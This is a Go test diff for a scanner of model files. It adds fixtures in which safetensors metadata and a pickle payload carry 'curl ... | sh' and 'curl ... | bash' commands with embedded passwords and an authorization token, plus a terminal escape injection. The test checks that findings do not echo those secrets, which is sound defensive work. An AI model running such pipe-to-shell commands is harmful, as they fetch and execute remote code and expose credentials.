@@ -128,3 +128,31 @@ func TestHinted(t *testing.T) {
 		t.Errorf("%s: %v, want ST408 and ST602", f.Verdict, ids)
 	}
 }
+
+// TestExcerpts states that no finding shows a secret that stands in a key, or in
+// a command or program of which a message shows a part.
+func TestExcerpts(t *testing.T) {
+	hub := "hf_" + "kQz83JdLwPxTv0RbNcYmEoUiSgAh17Bf52"
+	const password = "Tr0ub4dor+3x"
+	quote := func(s string) string { return fmt.Sprintf("X%c\x00\x00\x00%s", len(s), s) }
+	for _, c := range []struct{ name, data, id string }{
+		{"key.safetensors", file(`{"__metadata__":{"`+hub+`":"v"}}`, 0), "ST602"},
+		{"text.safetensors", file(`{"__metadata__":{"password: `+password+`":"v"}}`, 0), "ST602"},
+		{"program.safetensors", file(`{"__metadata__":{"k":"curl https://me:`+password+`@host/x | sh"}}`, 0), "ST605"},
+		{"escape.safetensors", file(`{"__metadata__":{"`+hub+`":"\u001b[31m"}}`, 0), "ST606"},
+		{"command.pkl", "\x80\x02" + quote("curl -u a -H 'Authorization: "+hub+"' https://host/x | bash") + ".", "ST358"},
+		{"mystery.engine", "#!/bin/sh --password=" + password + "\nexit\n", ""},
+	} {
+		f := reader(t, c.name, []byte(c.data), Options{})
+		found := c.id == ""
+		for _, g := range f.Findings {
+			found = found || g.ID == c.id
+			if text := fmt.Sprintf("%+v", g); strings.Contains(text, hub[3:20]) || strings.Contains(text, password[:8]) {
+				t.Errorf("%s shows the secret: %s", c.name, text)
+			}
+		}
+		if !found || f.Verdict == Clean {
+			t.Errorf("%s: %v, want %s", c.name, f.Findings, c.id)
+		}
+	}
+}
